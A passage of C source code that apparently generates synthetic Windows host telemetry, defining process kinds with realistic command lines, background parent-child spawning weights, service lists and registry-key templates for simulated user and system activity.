	unsigned short act;       /* background activity weight */
	const char *cwd;          /* CurrentDirectory */
};

#define W32 "C:\\Windows\\system32\\"
#define SVCH "C:\\Windows\\system32\\svchost.exe -k "
#define CHR "\"" CHROME "chrome.exe\" "
#define FTH " --field-trial-handle=1948,i,%n,%n,262144"
#define TEAMSEXE "\"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\""
#define DOCS "C:\\Users\\%U\\Documents\\"

enum {
	K_SYSTEM, K_SMSS, K_SMSS_CHILD, K_CSRSS, K_WININIT, K_WINLOGON,
	K_SERVICES, K_LSASS, K_FONTDRV, K_FONTDRV_U, K_DWM, K_SVC, K_SVC_DCOM,
	K_SVC_SCHED, K_SVC_SYSMAIN, K_SVC_WU, K_SVC_INPUT, K_SVC_AUDIO,
	K_SVC_APPINFO, K_SVC_USER, K_USERINIT, K_EXPLORER, K_SIHOST,
	K_TASKHOSTW, K_RUNTIMEBROKER, K_SEARCHIDX, K_SEARCHPROT, K_SEARCHFILT,
	K_SPOOLSV, K_MSMPENG, K_NISSRV, K_MPCMDRUN, K_SECHSVC, K_SECHTRAY,
	K_CTFMON, K_CONHOST, K_CMD, K_POWERSHELL, K_WMIPRVSE, K_DLLHOST,
	K_BGTASK, K_COMPATTEL, K_MOUSO, K_SPPSVC, K_TRUSTEDINST, K_TIWORKER,
	K_AUDIODG, K_ONEDRIVE, K_CHROME, K_CHROME_GPU, K_CHROME_NET,
	K_CHROME_TAB, K_OUTLOOK, K_WINWORD, K_EXCEL, K_POWERPNT, K_TEAMS,
	K_TEAMS_R, K_NOTEPAD, K_ACRORD, K_MSTSC, K_IPCONFIG, K_PING,
	K_NSLOOKUP, K_SPLWOW, K_C2R, K_W3WP, K_SQLSERVR, K_SMARTSCREEN,
	K_WERFAULT, K_CONSENT, K_MSIEXEC, K_TOOL, K_DROPPED, K_COUNT
};

#define PK(f, c, u, l, fam, con, il, g, nl, mx, act, cwd) \
	{f, c, u, l, fam, con, il, g, nl, mx, act, cwd}
static const struct pkind kinds[K_COUNT] = {
	[K_SYSTEM] = PK(F_SYSTEM, "", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", 0, 0, 1, 3, NULL),
	[K_SMSS] = PK(F_SMSS, "\\SystemRoot\\System32\\smss.exe", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE, 3, 1, 0, W32),
	[K_SMSS_CHILD] = PK(F_SMSS, "\\SystemRoot\\System32\\smss.exe 000000%2 00000084", U_SYSTEM, L_BRIEF, FAM_SYS, 0, "System", G_BASE, 3, 0, 0, W32),
	[K_CSRSS] = PK(F_CSRSS, "%%SystemRoot%%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE, 6, 2, 0, W32),
	[K_WININIT] = PK(F_WININIT, "wininit.exe", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_GUI, 14, 1, 0, W32),
	[K_WINLOGON] = PK(F_WINLOGON, "winlogon.exe", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_GUI, 16, 1, 1, W32),
	[K_SERVICES] = PK(F_SERVICES, W32 "services.exe", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE, 9, 1, 4, W32),
	[K_LSASS] = PK(F_LSASS, W32 "lsass.exe", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_NET, 18, 1, 5, W32),
	[K_FONTDRV] = PK(F_FONTDRV, "\"fontdrvhost.exe\"", U_UMFD, L_SERVICE, FAM_SYS, 0, "Low", G_BASE, 6, 0, 0, W32),
	[K_FONTDRV_U] = PK(F_FONTDRV, "\"fontdrvhost.exe\"", U_UMFD, L_SERVICE, FAM_SYS, 0, "Low", G_BASE, 6, 0, 0, W32),
	[K_DWM] = PK(F_DWM, "\"dwm.exe\"", U_DWM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_GUI, 20, 1, 2, W32),
	[K_SVC] = PK(F_SVCHOST, SVCH "LocalServiceNetworkRestricted -p -s lmhosts", U_LOCAL, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_NET, 14, 0, 3, W32),
	[K_SVC_DCOM] = PK(F_SVCHOST, SVCH "DcomLaunch -p", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_GUI, 16, 1, 5, W32),
	[K_SVC_SCHED] = PK(F_SVCHOST, SVCH "netsvcs -p -s Schedule", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_NET, 16, 1, 7, W32),
	[K_SVC_SYSMAIN] = PK(F_SVCHOST, SVCH "LocalSystemNetworkRestricted -p -s SysMain", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE, 12, 1, 9, W32),
	[K_SVC_WU] = PK(F_SVCHOST, SVCH "netsvcs -p -s wuauserv", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_NET, 18, 1, 6, W32),
	[K_SVC_INPUT] = PK(F_SVCHOST, SVCH "LocalSystemNetworkRestricted -p -s TabletInputService", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE, 10, 1, 1, W32),
	[K_SVC_AUDIO] = PK(F_SVCHOST, SVCH "LocalServiceNetworkRestricted -p -s Audiosrv", U_LOCAL, L_SERVICE, FAM_SYS, 0, "System", G_BASE, 12, 1, 2, W32),
	[K_SVC_APPINFO] = PK(F_SVCHOST, SVCH "netsvcs -p -s Appinfo", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE, 10, 1, 1, W32),
	[K_SVC_USER] = PK(F_SVCHOST, SVCH "UnistackSvcGroup -s CDPUserSvc_%4", U_USER, L_SESSION, FAM_EXPL, 0, "Medium", G_BASE | G_NET, 14, 1, 4, W32),
	[K_USERINIT] = PK(F_USERINIT, W32 "userinit.exe", U_USER, L_BRIEF, FAM_EXPL, 0, "Medium", G_BASE | G_GUI, 12, 0, 0, W32),
	[K_EXPLORER] = PK(F_EXPLORER, "C:\\Windows\\Explorer.EXE", U_USER, L_SESSION, FAM_EXPL, 0, "Medium", G_BASE | G_GUI | G_NET, 38, 1, 40, W32),
	[K_SIHOST] = PK(F_SIHOST, "sihost.exe", U_USER, L_SESSION, FAM_EXPL, 0, "Medium", G_BASE | G_GUI, 16, 1, 3, W32),
	[K_TASKHOSTW] = PK(F_TASKHOSTW, "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", U_USER, L_TASK, FAM_SYS, 0, "Medium", G_BASE | G_GUI, 14, 0, 3, W32),
	[K_RUNTIMEBROKER] = PK(F_RUNTIMEBROKER, W32 "RuntimeBroker.exe -Embedding", U_USER, L_SESSION, FAM_EXPL, 0, "Medium", G_BASE | G_GUI, 14, 0, 3, W32),
	[K_SEARCHIDX] = PK(F_SEARCHIDX, W32 "SearchIndexer.exe /Embedding", U_SYSTEM, L_SERVICE, FAM_SEARCH, 0, "System", G_BASE | G_GUI, 16, 1, 8, W32),
	[K_SEARCHPROT] = PK(F_SEARCHPROT, "\"" W32 "SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%1_ Global\\UsGthrCtrlFltPipeMssGthrPipe%1 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ", U_SYSTEM, L_TASK, FAM_SEARCH, 0, "System", G_BASE, 10, 0, 2, W32),
	[K_SEARCHFILT] = PK(F_SEARCHFILT, "\"" W32 "SearchFilterHost.exe\" 0 %1 %1 %1 8192 %1 %1 ", U_SYSTEM, L_TASK, FAM_SEARCH, 0, "System", G_BASE, 9, 0, 2, W32),
	[K_SPOOLSV] = PK(F_SPOOLSV, W32 "spoolsv.exe", U_SYSTEM, L_SERVICE, FAM_SYS, 0, "System", G_BASE | G_NET, 18, 1, 2, W32),
	[K_MSMPENG] = PK(F_MSMPENG, "\"" DEFENDER "MsMpEng.exe\"", U_SYSTEM, L_SERVICE, FAM_DEFENDER, 0, "System", G_BASE | G_NET, 20, 1, 14, W32),
	[K_NISSRV] = PK(F_NISSRV, "\"" DEFENDER "NisSrv.exe\"", U_LOCAL, L_SERVICE, FAM_DEFENDER, 0, "System", G_BASE | G_NET, 12, 1, 2, W32),
	[K_MPCMDRUN] = PK(F_MPCMDRUN, "\"" DEFENDER "MpCmdRun.exe\" -IdleTask -TaskName WdCacheMaintenance", U_SYSTEM, L_TASK, FAM_DEFENDER, 1, "System", G_BASE | G_NET, 14, 0, 6, W32),
	[K_SECHSVC] = PK(F_SECHSVC, W32 "SecurityHealthService.exe", U_SYSTEM, L_SERVICE, FAM_DEFENDER, 0, "System", G_BASE, 10, 1, 1, W32),
	[K_SECHTRAY] = PK(F_SECHTRAY, "\"" W32 "SecurityHealthSystray.exe\" ", U_USER, L_SESSION, FAM_EXPL, 0, "Medium", G_BASE | G_GUI, 14, 1, 1, W32),
	[K_CTFMON] = PK(F_CTFMON, "\"ctfmon.exe\"", U_USER, L_SESSION, FAM_EXPL, 0, "Medium", G_BASE | G_GUI, 14, 1, 2, W32),
	[K_CONHOST] = PK(F_CONHOST, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", U_USER, L_SCRIPT, FAM_SYS, 0, "Medium", G_BASE | G_GUI, 10, 0, 0, W32),
	[K_CMD] = PK(F_CMD, "\"C:\\Windows\\system32\\cmd.exe\" ", U_USER, L_APP, FAM_EXPL, 1, "Medium", G_BASE, 6, 0, 1, "C:\\Users\\%U\\"),
	[K_POWERSHELL] = PK(F_POWERSHELL, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", U_USER, L_SCRIPT, FAM_EXPL, 1, "Medium", G_BASE | G_DOTNET | G_NET, 22, 0, 0, "C:\\Users\\%U\\"),
	[K_WMIPRVSE] = PK(F_WMIPRVSE, W32 "wbem\\wmiprvse.exe -secured -Embedding", U_NETWORK, L_TASK, FAM_SYS, 0, "System", G_BASE | G_WMI, 14, 0, 4, W32),
	[K_DLLHOST] = PK(F_DLLHOST, W32 "DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", U_USER, L_TASK, FAM_EXPL, 0, "Medium", G_BASE | G_GUI, 16, 0, 2, W32),
	[K_BGTASK] = PK(F_BGTASK, "\"" W32 "backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountBackgroundTask", U_USER, L_TASK, FAM_EXPL, 0, "Low", G_BASE | G_GUI | G_NET, 18, 0, 2, W32),
	[K_COMPATTEL] = PK(F_COMPATTEL, W32 "compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:%5.5", U_SYSTEM, L_TASK, FAM_SYS, 1, "System", G_BASE | G_NET, 16, 0, 25, W32),
	[K_MOUSO] = PK(F_MOUSO, W32 "mousocoreworker.exe -Embedding", U_SYSTEM, L_TASK, FAM_SYS, 0, "System", G_BASE | G_NET, 16, 0, 8, W32),
	[K_SPPSVC] = PK(F_SPPSVC, W32 "sppsvc.exe", U_NETWORK, L_TASK, FAM_SYS, 0, "System", G_BASE | G_NET, 12, 1, 3, W32),
	[K_TRUSTEDINST] = PK(F_TRUSTEDINST, "C:\\Windows\\servicing\\TrustedInstaller.exe", U_SYSTEM, L_TASK, FAM_SYS, 0, "System", G_BASE, 12, 1, 4, W32),
	[K_TIWORKER] = PK(F_TIWORKER, "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3562_none_7e31c8e5b0bb8d12\\TiWorker.exe -Embedding", U_SYSTEM, L_TASK, FAM_SYS, 0, "System", G_BASE, 14, 1, 30, W32),
	[K_AUDIODG] = PK(F_AUDIODG, W32 "AUDIODG.EXE 0x%3", U_LOCAL, L_APP, FAM_SYS, 0, "System", G_BASE, 10, 1, 0, W32),
	[K_ONEDRIVE] = PK(F_ONEDRIVE, "\"C:\\Users\\%U\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", U_USER, L_SESSION, FAM_ONEDRIVE, 0, "Medium", G_BASE | G_GUI | G_NET, 30, 1, 10, "C:\\Users\\%U\\AppData\\Local\\Microsoft\\OneDrive\\"),
	[K_CHROME] = PK(F_CHROME, CHR, U_USER, L_SESSION, FAM_BROWSER, 0, "Medium", G_BASE | G_GUI | G_NET | G_CHROME, 34, 1, 18, CHROME),
	[K_CHROME_GPU] = PK(F_CHROME, CHR "--type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= --mojo-platform-channel-handle=%1" FTH " /prefetch:2", U_USER, L_SCRIPT, FAM_BROWSER, 0, "Low", G_BASE | G_GUI | G_CHROME, 22, 0, 2, CHROME),
	[K_CHROME_NET] = PK(F_CHROME, CHR "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=ja --service-sandbox-type=none --mojo-platform-channel-handle=%1" FTH " /prefetch:3", U_USER, L_SCRIPT, FAM_BROWSER, 0, "Medium", G_BASE | G_NET | G_CHROME, 20, 0, 25, CHROME),
	[K_CHROME_TAB] = PK(F_CHROME, CHR "--type=renderer --lang=ja --device-scale-factor=1 --num-raster-threads=2 --enable-main-frame-before-activation --renderer-client-id=%1 --time-ticks-at-unix-epoch=-%5 --launch-time-ticks=%5 --mojo-platform-channel-handle=%1" FTH " /prefetch:1", U_USER, L_TAB, FAM_BROWSER, 0, "Untrusted", G_BASE | G_CHROME, 12, 0, 3, CHROME),
	[K_OUTLOOK] = PK(F_OUTLOOK, "\"" OFFICE "OUTLOOK.EXE\" ", U_USER, L_SESSION, FAM_OFFICE, 0, "Medium", G_BASE | G_GUI | G_NET | G_OFFICE, 40, 1, 22, OFFICE),
	[K_WINWORD] = PK(F_WINWORD, "\"" OFFICE "WINWORD.EXE\" /n \"" DOCS "%W\" /o \"\"", U_USER, L_APP, FAM_OFFICE, 0, "Medium", G_BASE | G_GUI | G_NET | G_OFFICE, 36, 0, 12, DOCS),
	[K_EXCEL] = PK(F_EXCEL, "\"" OFFICE "EXCEL.EXE\" \"" DOCS "%X\"", U_USER, L_APP, FAM_OFFICE, 0, "Medium", G_BASE | G_GUI | G_NET | G_OFFICE, 36, 0, 12, DOCS),
	[K_POWERPNT] = PK(F_POWERPNT, "\"" OFFICE "POWERPNT.EXE\" \"" DOCS "%P\"", U_USER, L_APP, FAM_OFFICE, 0, "Medium", G_BASE | G_GUI | G_NET | G_OFFICE, 36, 0, 10, DOCS),
	[K_TEAMS] = PK(F_TEAMS, TEAMSEXE " --system-initiated", U_USER, L_SESSION, FAM_TEAMS, 0, "Medium", G_BASE | G_GUI | G_NET, 30, 1, 14, "C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\"),
	[K_TEAMS_R] = PK(F_TEAMS, TEAMSEXE " --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --lang=ja --num-raster-threads=2 --renderer-client-id=%1 --mojo-platform-channel-handle=%1 /prefetch:1", U_USER, L_SESSION, FAM_TEAMS, 0, "Medium", G_BASE | G_GUI, 16, 3, 6, "C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\"),
	[K_NOTEPAD] = PK(F_NOTEPAD, "\"" W32 "NOTEPAD.EXE\" C:\\Users\\%U\\Desktop\\memo_%1.txt", U_USER, L_APP, FAM_EXPL, 0, "Medium", G_BASE | G_GUI, 20, 0, 1, "C:\\Users\\%U\\Desktop\\"),
	[K_ACRORD] = PK(F_ACRORD, "\"C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe\" \"C:\\Users\\%U\\Downloads\\%A\"", U_USER, L_APP, FAM_OFFICE, 0, "Medium", G_BASE | G_GUI | G_NET, 30, 0, 6, "C:\\Users\\%U\\Downloads\\"),
	[K_MSTSC] = PK(F_MSTSC, "\"" W32 "mstsc.exe\" ", U_USER, L_APP, FAM_EXPL, 0, "Medium", G_BASE | G_GUI | G_NET, 30, 0, 3, W32),
	[K_IPCONFIG] = PK(F_IPCONFIG, "ipconfig  /all", U_USER, L_CMD, FAM_SYS, 1, "Medium", G_BASE | G_NET, 6, 0, 0, "C:\\Users\\%U\\"),
	[K_PING] = PK(F_PING, "ping  fs01.corp.example.jp", U_USER, L_CMD, FAM_SYS, 1, "Medium", G_BASE | G_NET, 7, 0, 0, "C:\\Users\\%U\\"),
	[K_NSLOOKUP] = PK(F_NSLOOKUP, "nslookup  intranet.corp.example.jp", U_USER, L_CMD, FAM_SYS, 1, "Medium", G_BASE | G_NET, 7, 0, 0, "C:\\Users\\%U\\"),
	[K_SPLWOW] = PK(F_SPLWOW, "C:\\Windows\\splwow64.exe 12288", U_USER, L_APP, FAM_SYS, 0, "Medium", G_BASE | G_GUI, 18, 1, 1, W32),
	[K_C2R] = PK(F_C2R, "\"C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeClickToRun.exe\" /service", U_SYSTEM, L_SERVICE, FAM_OFFICE, 0, "System", G_BASE | G_NET, 18, 1, 5, W32),
	[K_W3WP] = PK(F_W3WP, "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm%8 -h \"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\" -w \"\" -m 0", U_NETWORK, L_SERVICE, FAM_SERVER, 0, "High", G_BASE | G_NET | G_DOTNET, 30, 1, 60, "C:\\Windows\\system32\\inetsrv\\"),
	[K_SQLSERVR] = PK(F_SQLSERVR, "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER", U_NETWORK, L_SERVICE, FAM_SERVER, 0, "High", G_BASE | G_NET, 24, 1, 60, "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\"),
	[K_SMARTSCREEN] = PK(F_SMARTSCREEN, W32 "smartscreen.exe -Embedding", U_USER, L_TASK, FAM_EXPL, 0, "Medium", G_BASE | G_NET, 16, 0, 2, W32),
	[K_WERFAULT] = PK(F_WERFAULT, W32 "WerFault.exe -u -p %1 -s %3", U_USER, L_TASK, FAM_SYS, 0, "Medium", G_BASE | G_GUI, 16, 0, 3, W32),
	[K_CONSENT] = PK(F_CONSENT, "consent.exe %1 344 000001%8", U_SYSTEM, L_TASK, FAM_SYS, 0, "System", G_BASE | G_GUI, 18, 0, 1, W32),
	[K_MSIEXEC] = PK(F_MSIEXEC, W32 "msiexec.exe /V", U_SYSTEM, L_TASK, FAM_SYS, 0, "System", G_BASE | G_GUI, 16, 1, 12, W32),
	[K_TOOL] = PK(F_WHOAMI, "", U_USER, L_CMD, FAM_SYS, 1, "Medium", G_BASE | G_NET, 7, 0, 0, "C:\\Users\\%U\\"),
	[K_DROPPED] = PK(F_SYSTEM, "", U_USER, L_SCRIPT, FAM_EXPL, 0, "Medium", G_BASE | G_GUI | G_NET, 20, 0, 0, "C:\\Users\\%U\\"),
};
#undef PK

/* Services started at boot by services.exe: a kind, or K_SVC with one of
 * these command lines and accounts. */
struct svc {
	const char *args;
	unsigned char user;
};
static const struct svc boot_svcs[] = {
	{"RPCSS -p", U_NETWORK},
	{"LocalServiceNetworkRestricted -p -s lmhosts", U_LOCAL},
	{"LocalServiceNetworkRestricted -p -s Dhcp", U_LOCAL},
	{"NetworkService -p -s Dnscache", U_NETWORK},
	{"LocalServiceNoNetworkFirewall -p", U_LOCAL},
	{"LocalServiceNetworkRestricted -p -s EventLog", U_LOCAL},
	{"netsvcs -p -s Winmgmt", U_SYSTEM},
	{"LocalService -p -s nsi", U_LOCAL},
	{"netsvcs -p -s BITS", U_SYSTEM},
	{"NetworkService -p -s CryptSvc", U_NETWORK},
	{"LocalService -p -s EventSystem", U_LOCAL},
	{"netsvcs -p -s ProfSvc", U_SYSTEM},
	{"netsvcs -p -s UserManager", U_SYSTEM},
	{"appmodel -p -s StateRepository", U_SYSTEM},
	{"netsvcs -p -s gpsvc", U_SYSTEM},
	{"LocalServiceNoNetwork -p", U_LOCAL},
	{"NetworkService -p -s LanmanWorkstation", U_NETWORK},
	{"netsvcs -p -s LanmanServer", U_SYSTEM},
	{"LocalSystemNetworkRestricted -p -s PcaSvc", U_SYSTEM},
	{"netsvcs -p -s Themes", U_SYSTEM},
	{"LocalService -p -s FontCache", U_LOCAL},
	{"LocalService -s W32Time", U_LOCAL},
	{"utcsvc -p", U_SYSTEM},
	{"wsappx -p -s ClipSVC", U_SYSTEM},
	{"NetworkService -p -s WinHttpAutoProxySvc", U_LOCAL},
	{"netsvcs -p -s iphlpsvc", U_SYSTEM},
	{"LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc", U_LOCAL},
	{"netsvcs -p -s SENS", U_SYSTEM},
	{"LocalSystemNetworkRestricted -p -s NcbService", U_SYSTEM},
	{"netsvcs -p -s ShellHWDetection", U_SYSTEM},
	{"NetworkService -p -s NlaSvc", U_NETWORK},
	{"LocalServiceNetworkRestricted -p -s WinDefend", U_LOCAL},
};
/* Started on demand (background churn). */
static const struct svc demand_svcs[] = {
	{"LocalSystemNetworkRestricted -p -s DeviceAssociationService", U_SYSTEM},
	{"netsvcs -p -s wlidsvc", U_SYSTEM},
	{"LocalService -p -s BthAvctpSvc", U_LOCAL},
	{"netsvcs -p -s DsmSvc", U_SYSTEM},
	{"LocalServiceNetworkRestricted -p -s TimeBrokerSvc", U_LOCAL},
	{"wusvcs -p -s WaaSMedicSvc", U_SYSTEM},
	{"LocalSystemNetworkRestricted -p -s StorSvc", U_SYSTEM},
	{"netsvcs -p -s lfsvc", U_SYSTEM},
	{"LocalService -p -s WdiServiceHost", U_LOCAL},
	{"NetworkService -p -s DoSvc", U_NETWORK},
};

/* Background churn: who starts whom, how often (relative weights). */
struct rule {
	int parent, child;
	double w;
};
static const struct rule rules[] = {
	{K_SVC_DCOM, K_WMIPRVSE, 4}, {K_SVC_DCOM, K_DLLHOST, 5},
	{K_SVC_DCOM, K_BGTASK, 5}, {K_SVC_DCOM, K_RUNTIMEBROKER, 1.5},
	{K_SVC_DCOM, K_SMARTSCREEN, 0.4}, {K_SVC_DCOM, K_TIWORKER, 0.15},
	{K_SVC_DCOM, K_MOUSO, 1.2}, {K_SVC_SCHED, K_TASKHOSTW, 5},
	{K_SVC_SCHED, K_COMPATTEL, 0.2}, {K_SVC_SCHED, K_MPCMDRUN, 0.6},
	{K_SERVICES, K_SVC, 1.5}, {K_SERVICES, K_TRUSTEDINST, 0.2},
	{K_SERVICES, K_SPPSVC, 0.6}, {K_SERVICES, K_MSIEXEC, 0.05},
	{K_SEARCHIDX, K_SEARCHPROT, 6}, {K_SEARCHIDX, K_SEARCHFILT, 5},
	{K_SVC_AUDIO, K_AUDIODG, 0.4}, {K_SVC_APPINFO, K_CONSENT, 0.1},
	{K_SVC, K_WERFAULT, 0.1}, {K_SVC_SYSMAIN, K_CONHOST, 0},
	{K_EXPLORER, K_CHROME, 1}, {K_EXPLORER, K_WINWORD, 1.6},
	{K_EXPLORER, K_EXCEL, 2}, {K_EXPLORER, K_POWERPNT, 0.5},
	{K_EXPLORER, K_NOTEPAD, 0.8}, {K_EXPLORER, K_ACRORD, 1.2},
	{K_EXPLORER, K_MSTSC, 0.08}, {K_EXPLORER, K_CMD, 0.15},
	{K_EXPLORER, K_OUTLOOK, 1}, {K_EXPLORER, K_TEAMS, 0.3},
	{K_CHROME, K_CHROME_TAB, 14}, {K_TEAMS, K_TEAMS_R, 0.5},
	{K_WINWORD, K_SPLWOW, 0.15}, {K_EXCEL, K_SPLWOW, 0.15},
	{K_CMD, K_IPCONFIG, 1}, {K_CMD, K_PING, 1}, {K_CMD, K_NSLOOKUP, 0.5},
};

/* ---- what processes touch, per family -------------------------------
 * Registry entries are "T|key" or "S|key|value"; T is D (DWORD), Q (QWORD),
 * B (binary) or S (string value).  Templates expand with expand(). */

#define HKU "HKU\\%S\\Software\\"
static const char *const reg_sys[] = {
	"B|HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\%S\\\\Device\\HarddiskVolume3\\Windows\\System32\\%e",
	"B|HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\%g\\DynamicInfo",
	"Q|HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime",
	"Q|HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\HeartBeats\\Default\\LatestHeartBeatTime",
	"S|HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\%g\\DhcpIPAddress|%I",
	"D|HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\%g\\LeaseObtainedTime",
	"B|HKU\\.DEFAULT\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Connections\\SavedLegacySettings",
	"D|HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\SessionsPending\\Exclusive",
	"Q|HKLM\\SOFTWARE\\Microsoft\\WindowsUpdate\\UpdatePolicy\\PolicyState\\LastScanTime",
	"D|HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\Memory Management\\PrefetchParameters\\BootId",
	"S|HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Publishers\\%g\\(Default)|Microsoft-Windows-%e",
	"B|HKLM\\System\\CurrentControlSet\\Control\\DeviceContainers\\%g\\Properties\\{8c7ed206-3f8a-4827-b3ab-ae9e1faefc6c}\\0002\\(Default)",
};
static const char *const reg_expl[] = {
	"B|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\{1NP14R77-02R7-4R5Q-O744-2RO1NR5198O7}\\%e",
	"B|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\%1",
	"B|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\MRUListEx",
	"D|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\AppSwitched\\%e",
	"D|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\ShowJumpView\\%e",
	"B|HKU\\%S_Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\BagMRU\\%1\\MRUListEx",
	"B|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\SessionInfo\\1\\ApplicationViewManagement\\W32:00000000000%4\\VirtualDesktop",
	"B|" HKU "Microsoft\\Windows\\CurrentVersion\\CloudStore\\Store\\Cache\\DefaultAccount\\$$windows.data.notifications.quiethourssettings\\Current\\Data",
	"D|" HKU "Microsoft\\Windows\\CurrentVersion\\Notifications\\Settings\\Windows.SystemToast.SecurityAndMaintenance\\LastNotificationAddedTime",
	"S|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a|cmd\\1",
	"D|" HKU "Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\TaskbarStateLastRun",
};
static const char *const reg_office[] = {
	"B|" HKU "Microsoft\\Office\\16.0\\Common\\ExperimentEcs\\Overrides\\%8",
	"S|" HKU "Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document %1\\Position|%1 %1",
	"S|" HKU "Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document %1\\File Path|" DOCS "%W",
	"B|" HKU "Microsoft\\Office\\16.0\\Outlook\\Profiles\\Outlook\\0a0d020000000000c000000000000046\\%8",
	"D|" HKU "Microsoft\\Office\\16.0\\Common\\Internet\\Server Cache\\https://corpexample.sharepoint.com/\\Type",
	"B|" HKU "Microsoft\\Office\\16.0\\Excel\\Resiliency\\DocumentRecovery\\%8\\%8",
	"S|" HKU "Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\%8_ADAL\\Settings\\EmailAddress|%U@corp.example.jp",
	"D|" HKU "Microsoft\\Office\\16.0\\Common\\LanguageResources\\EnabledEditingLanguages\\ja-jp",
	"Q|" HKU "Microsoft\\Office\\16.0\\Common\\ClientTelemetry\\RulesMetadata\\LastUploadTime",
	"S|" HKU "Microsoft\\Office\\16.0\\Excel\\File MRU\\Item %1|[F00000000][T01DA%8][O00000000]*" DOCS "%X",
};
static const char *const reg_browser[] = {
	"D|" HKU "Google\\Chrome\\BLBeacon\\state",
	"S|" HKU "Google\\Chrome\\BLBeacon\\version|" CHVER,
	"Q|HKLM\\SOFTWARE\\WOW6432Node\\Google\\Update\\ClientState\\{8A69D345-D564-463C-AFF1-A69D9E530F96}\\LastCheckSuccess",
	"B|" HKU "Microsoft\\Windows\\CurrentVersion\\Internet Settings\\5.0\\Cache\\Content\\CachePrefix",
	"D|" HKU "Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ZoneMap\\ProxyBypass",
	"S|" HKU "Microsoft\\Office\\Teams\\HomeUserUpn|%U@corp.example.jp",
	"D|" HKU "Microsoft\\Office\\Teams\\LoggedInOnce",
};
static const char *const reg_defender[] = {
